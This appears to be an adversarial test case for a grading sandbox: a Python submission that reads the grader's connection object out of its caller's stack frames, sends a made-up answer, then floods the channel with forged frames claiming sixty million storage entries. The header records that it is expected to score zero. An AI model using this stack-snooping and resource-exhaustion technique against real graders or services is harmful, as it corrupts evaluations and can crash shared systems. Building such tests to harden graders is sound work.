# attack: forges frames whose table of storages is sixty million empty lists
# points: 0
# statuses: bad_answer
# naive: absent - in one process there are no frames
import struct
import sys

from grader.sandbox import channel, wire

connection = loading = None
frame = sys._getframe()
while frame is not None:
    connection = connection or frame.f_locals.get("connection")
    loading = frame.f_locals.get("number", loading)
    frame = frame.f_back

count = 60_000_000
table = b"\xdd" + struct.pack(">I", count) + b"\x90" * count
forged = struct.pack(">II", len(table), 1) + table + b"\xc0"
channel.send(connection, loading, wire.encode({"value": ["softmax", "log_softmax"]}))
while True:
    number, _ = channel.receive(connection)
    channel.send(connection, number, forged)
